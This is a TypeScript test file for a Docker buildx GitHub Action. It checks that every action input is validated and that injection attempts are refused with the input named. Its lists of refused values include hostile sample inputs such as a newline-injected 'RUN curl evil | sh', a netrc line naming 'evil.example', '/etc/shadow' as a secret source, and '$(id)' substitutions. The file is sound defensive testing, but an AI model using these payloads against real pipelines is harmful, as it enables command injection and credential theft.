// Every input has a grammar, checked as inputs are read: values that would reach argv as an option,
// add a line to a generated Dockerfile or a netrc, or carry control characters are refused with the
// input named. Table-driven over each kind of input.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import { buildxArgs } from '../../src/buildx/args.ts';
import { INPUT_GRAMMAR, MAX_ITEM_BYTES } from '../../src/input-grammar.ts';
import { readInputs } from '../../src/inputs.ts';
import { ROOT } from '../helpers/run-action.ts';

const read = (values: Record<string, string>) => readInputs((n) => values[n] ?? '');

test('every input of action.yml has a grammar, and the table names no other', () => {
  const yml = readFileSync(path.join(ROOT, 'action.yml'), 'utf8');
  const inputs = yml.slice(yml.indexOf('\ninputs:'), yml.indexOf('\noutputs:'));
  const names = [...inputs.matchAll(/^ {2}([a-z][a-z0-9-]*):\s*$/gm)].map((m) => m[1]!);
  assert.ok(names.length > 40);
  assert.deepEqual(Object.keys(INPUT_GRAMMAR).sort(), [...names].sort());
});

// input -> values refused (each also with its error naming the input) and values accepted.
const KINDS: { kind: string; inputs: string[]; bad: string[]; good: string[] }[] = [
  {
    kind: 'image reference',
    inputs: ['cache-helper-image', 'binfmt-image', 'compare-to'],
    bad: [
      '-v/x:1',
      '--privileged',
      '-x.io/y:1',
      'busybox:stable\nRUN curl evil | sh',
      'busybox\r',
      'Busybox',
      'busybox:stable AS x',
      'busybox:stable\u001b[31m',
      'host/repo:tag;id',
    ],
    good: [
      'docker.io/library/busybox:stable',
      'localhost:5000/x/y:1',
      'ghcr.io/o/r@sha256:' + 'a'.repeat(64),
    ],
  },
  {
    kind: 'image reference list (tags)',
    inputs: ['tags'],
    bad: [
      '-ghcr.io/o/r:1',
      'ghcr.io/o/r:-1',
      'ghcr.io/o/r:1,--push',
      'ghcr.io/o/r:$(id)',
      'a/b:1\u0000',
    ],
    good: ['ghcr.io/o/r:1,ghcr.io/o/r:latest', 'ghcr.io/o/r:1\nghcr.io/o/r:2'],
  },
  {
    kind: 'build context',
    inputs: ['context'],
    bad: [
      '-',
      '-x',
      '--output=type=local,dest=/',
      'https://github.com/o/r.git',
      'git@github.com:o/r',
      'dir\nx',
      'a\tb',
    ],
    good: ['.', './-x', 'svc/api', '/abs/path'],
  },
  {
    kind: 'path',
    inputs: ['file', 'go-version-file', 'ca-bundle', 'report-file', 'merge'],
    bad: ['-', '-f', 'Dockerfile\nRUN x', 'a\u0000b', 'a\u007fb'],
    good: ['Dockerfile', './-f', 'svc/go.mod', '/tmp/x y/file'],
  },
  {
    kind: 'stage name',
    inputs: ['target'],
    bad: ['-x', '--push', 'build stage', 'a\nb', '1abc', '$(id)'],
    good: ['build', 'final-image', 'Stage_2.x'],
  },
  {
    kind: 'builder name',
    inputs: ['builder'],
    bad: ['-b', '--config=/x', 'a b', 'a/b', 'a\nb'],
    good: ['b1', 'build-go-image-12', 'default'],
  },
  {
    kind: 'platform',
    inputs: ['platforms'],
    bad: ['-linux/amd64', 'linux/amd64\nlinux/arm64,linux/amd64\u0000', 'linux/amd64;id', '--push'],
    good: ['linux/amd64', 'linux/amd64,linux/arm64/v8', 'linux/arm/v7\nlinux/amd64'],
  },
  {
    kind: 'secret file (id=path)',
    inputs: ['secret-files'],
    bad: [
      'a,b=/x',
      'id=/x,src=/etc/shadow',
      'id="/x"',
      '-id=/x',
      'id=-/x',
      'id=',
      '=x',
      'i d=/x',
      'id =/x',
      'id\t=/x',
    ],
    good: ['npmrc=/home/runner/.npmrc', 'a.b-c_d=./rel/path'],
  },
  {
    kind: 'ssh spec',
    inputs: ['ssh'],
    bad: ['-x', 'default,x', 'id=-/key', 'id=/a b', 'id="/k"', 'id=/k,--x'],
    good: ['default', 'github=/home/runner/.ssh/id_ed25519', 'x=/a,/b'],
  },
  {
    kind: 'key=value',
    inputs: ['labels', 'annotations'],
    bad: ['-k=v', '=v', 'k v=1', 'novalue', 'k=v\u0007'],
    good: ['org.opencontainers.image.title=svc', 'k=v with spaces'],
  },
  {
    kind: 'build-arg',
    inputs: ['build-args'],
    bad: ['-A=1', 'A=1\u001b[2J', 'A B=1', '1A=1'],
    good: ['A=1', 'GOFLAGS=-mod=vendor', 'X=$(not a shell)'],
  },
  {
    kind: 'buildx spec',
    inputs: ['outputs', 'cache-from', 'cache-to'],
    bad: ['-', '-o', '--push', 'type=gha\u0000'],
    good: [
      'type=local,dest=out',
      'type=registry,ref=ghcr.io/o/r:cache',
      '"type=local,dest=a,b"',
      'type=local,dest=my dir',
    ],
  },
  {
    kind: 'attestation',
    inputs: ['provenance', 'sbom'],
    bad: ['-x', 'mode=max foo', 'true\u0000'],
    good: ['true', 'false', 'mode=max,builder-id=https://ci.example/run/1'],
  },
  {
    kind: 'token',
    inputs: ['github-token', 'go-private-token'],
    bad: ['ghs_abc\nmachine evil.example', 'ghs abc', 'ghs\tabc'],
    good: ['ghs_0123456789abcdef'],
  },
  {
    kind: 'whole number',
    inputs: ['cache-size-limit', 'cache-timeout'],
    // Number() reads all of these as numbers; a timeout past 2^31-1 ms fires at once in Node.
    bad: [
      '0x10',
      '1e3',
      '1e9',
      '12.0',
      '+5',
      '-1',
      '0',
      '1_000',
      '\uff11\uff12',
      'Infinity',
      ' 600',
      '2147484',
      '99999999999999999999',
    ],
    good: ['1', '600', '2048', '1048576'],
  },
  {
    kind: 'free text',
    inputs: ['cache-key', 'go-version-build-arg', 'go-private-user', 'network'],
    bad: ['a\u0000b', 'a\u001bb'],
    good: [],
  },
];

for (const k of KINDS)
  for (const input of k.inputs)
    test(`${k.kind}: ${input}`, () => {
      // Inputs that only make sense with others (merge, report-file) are read alone here: the
      // grammar is checked before any such rule.
      for (const bad of k.bad)
        assert.throws(
          () => read({ [input]: bad }),
          (e: Error) => e.message.startsWith(`input "${input}"`),
          `${input}: ${JSON.stringify(bad)}`,
        );
      for (const good of k.good)
        assert.doesNotThrow(
          () => read({ [input]: good, ...(input === 'merge' ? { tags: 'ghcr.io/o/r:1' } : {}) }),
          `${input}: ${JSON.stringify(good)}`,
        );
    });

test('a refused token is not printed in the error', () => {
  assert.throws(
    () => read({ 'go-private-token': 'ghs_secret-123\nmachine x' }),
    (e: Error) =>
      e.message.startsWith('input "go-private-token"') && !e.message.includes('ghs_secret-123'),
  );
});

test('buildx argv: the context comes after "--" and is the last element', () => {
  const inputs = read({ context: './-weird dir', tags: 'ghcr.io/o/r:1' });
  const argv = buildxArgs(inputs, {
    dockerfile: 'Dockerfile',
    buildArgs: new Map(),
    metadataFile: '/tmp/m.json',
  });
  assert.deepEqual(argv.slice(-2), ['--', './-weird dir']);
  assert.equal(argv.indexOf('--'), argv.length - 2, 'no other "--"');
  // No element that came from an input starts with "-" unless it is one of our own options.
  const ours = new Set(argv.filter((a) => /^--([a-z-]+)?$/.test(a)));
  for (const a of argv) if (a.startsWith('-')) assert.ok(ours.has(a), a);
});

test('a value of spaces only is no value: the default, as the action reads it', () => {
  const blank = Object.fromEntries(
    Object.keys(INPUT_GRAMMAR).map(
      (name) => [name, name === 'secrets' ? ' \n ' : '  \t '] as const,
    ),
  );
  const inputs = read(blank);
  const defaults = read({});
  assert.deepEqual(inputs, defaults);
  // Among them, values that reached docker or a request as typed: a context of spaces, a builder
  // named " ", a helper image " ", a release list URL of spaces, a comment-mode report file " ".
  assert.equal(inputs.context, '.');
  assert.equal(inputs.builder, '');
  assert.equal(inputs.target, '');
  assert.equal(inputs.cacheHelperImage, 'docker.io/library/busybox:stable');
  assert.equal(inputs.binfmtImage, 'docker.io/tonistiigi/binfmt:latest');
  assert.equal(inputs.goReleaseSource, 'https://go.dev/dl/?mode=json&include=all');
  assert.equal(inputs.reportFile, '');
  assert.equal(inputs.githubToken, '');
  assert.equal(inputs.cacheTimeoutSeconds, 600);
});

test('a value longer than one argument may be is refused with its input, not "spawn E2BIG"', () => {
  const big = 'x'.repeat(MAX_ITEM_BYTES + 1);
  for (const [input, value] of [
    ['build-args', `A=${big}`],
    ['labels', `org.example=${big}`],
    ['annotations', `k=${big}`],
    ['cache-from', `type=local,src=${big}`],
    ['provenance', `mode=max,x=${big}`],
    ['cache-key', big],
    ['file', `./${big}`],
    ['tags', `ghcr.io/o/r:1\nghcr.io/o/${big}:1`],
    ['github-token', big],
  ] as const)
    assert.throws(
      () => read({ [input]: value }),
      (e: Error) =>
        e.message.startsWith(`input "${input}"`) &&
        /bytes, more than the \d+ one command-line argument may hold/.test(e.message) &&
        e.message.length < 600,
      input,
    );
  // A token's start is not printed either.
  assert.throws(
    () => read({ 'github-token': `ghs_SECRET${big}` }),
    (e: Error) => !e.message.includes('ghs_SECRET'),
  );
  // Each secret value is bounded on its own (they travel as environment variables); the error
  // names the id, never the value. Several values that fit are fine together.
  assert.throws(
    () => read({ secrets: `a=1\nbig=SECRET${big}` }),
    (e: Error) =>
      /^input "secrets": the secret "big" is \d+ bytes/.test(e.message) &&
      !e.message.includes('SECRET'),
  );
  const fits = 'y'.repeat(MAX_ITEM_BYTES - 10);
  assert.equal(read({ secrets: `a=${fits}\nb=${fits}\nc=${fits}` }).secrets.length, 3);
  assert.equal(read({ 'build-args': `A=${'z'.repeat(MAX_ITEM_BYTES - 2)}` }).buildArgs.size, 1);
  // Multi-byte characters count as bytes, as the kernel counts them.
  assert.throws(() => read({ 'build-args': `A=${'é'.repeat(MAX_ITEM_BYTES / 2 + 1)}` }), /bytes/);
});
